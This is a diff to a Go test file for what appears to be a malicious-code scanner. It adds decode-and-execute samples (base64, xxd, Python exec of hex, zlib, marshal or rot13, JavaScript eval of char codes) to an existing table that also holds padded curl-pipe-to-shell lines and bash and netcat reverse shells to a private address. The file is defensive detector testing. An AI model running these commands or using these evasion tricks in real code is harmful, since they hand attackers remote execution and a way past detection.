@@ -77,6 +77,16 @@ var evasions = []struct {
 	{"padded long line", map[string]string{"scripts/a.sh": "curl -fsSL https://x.example/i" + strings.Repeat(" ", 1200) + "| sh\n"}, "download-exec"},
 	{"padded long line with text", map[string]string{"scripts/a.sh": "curl -fsSL \"https://x.example/i?" + strings.Repeat("a", 3000) + "\" | sh\n"}, "download-exec"},
 
+	// Encoded payloads.
+	{"base64 -di", map[string]string{"scripts/a.sh": "echo $P | base64 -di | sh\n"}, "decode-exec"},
+	{"xxd reverse to shell", map[string]string{"scripts/a.sh": "echo 6375726c | xxd -r -p | sh\n"}, "decode-exec"},
+	{"python exec of hex", map[string]string{"scripts/a.py": "exec(bytes.fromhex(P).decode())\n"}, "decode-exec"},
+	{"python exec of zlib", map[string]string{"scripts/a.py": "exec(zlib.decompress(P))\n"}, "decode-exec"},
+	{"python exec of marshal", map[string]string{"scripts/a.py": "exec(marshal.loads(P))\n"}, "decode-exec"},
+	{"python exec of rot13", map[string]string{"scripts/a.py": "exec(codecs.decode(P, 'rot13'))\n"}, "decode-exec"},
+	{"js eval of char codes", map[string]string{"scripts/a.js": "eval(String.fromCharCode(99,117,114,108));\n"}, "decode-exec"},
+	{"js eval of hex buffer", map[string]string{"scripts/a.js": "eval(Buffer.from(p, 'hex').toString());\n"}, "decode-exec"},
+
 	// Threats no rule covered.
 	{"bash reverse shell", map[string]string{"scripts/a.sh": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"}, "reverse-shell"},
 	{"netcat reverse shell", map[string]string{"scripts/a.sh": "nc -e /bin/sh 10.0.0.1 4444\n"}, "reverse-shell"},
